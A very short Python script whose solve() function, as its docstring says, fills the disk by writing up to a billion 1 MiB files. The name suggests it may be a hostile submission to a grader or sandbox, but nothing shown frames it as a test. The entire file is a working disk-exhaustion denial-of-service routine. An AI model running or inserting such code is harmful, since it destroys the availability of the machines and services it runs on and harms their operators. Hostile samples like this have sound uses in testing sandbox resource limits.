"""Fills the disk with files."""

def solve():
    for index in range(10**9):
        with open(f"file-{index}", "wb") as file:
            file.write(b"x" * 2**20)
